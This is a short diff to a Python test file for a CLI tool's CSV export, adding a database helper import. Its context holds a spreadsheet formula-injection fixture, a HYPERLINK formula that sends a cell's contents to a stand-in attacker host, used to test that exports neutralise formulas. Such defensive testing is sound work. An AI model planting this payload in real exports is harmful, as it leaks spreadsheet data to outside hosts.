@@ -16,6 +16,7 @@ from recouvre_tui.cli import main
 from recouvre_tui.reports import safe_csv
 from recouvre_tui.reports.safe_csv import FORMULA_TRIGGERS, is_number
 from recouvre_tui.services.lead import KpiRow, kpis_csv
+from stores import new_db
 
 NOW = "2026-11-23T10:00"
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Dupont")'
@@ -71,7 +72,7 @@ def test_kpis_csv_is_safe(agents: list[tuple[str, str, int]]) -> None:
 
 def _db(tmp_path: Path) -> tuple[CliRunner, list[str]]:
     runner = CliRunner()
-    base = ["--db", str(tmp_path / "t.db")]
+    base = ["--db", str(new_db(tmp_path, "t.db"))]
     assert runner.invoke(main, [*base, "init"]).exit_code == 0
     result = runner.invoke(main, [*base, "agents", "add", "alice", "--name", HOSTILE_AGENT_NAME])
     assert result.exit_code == 0, result.output
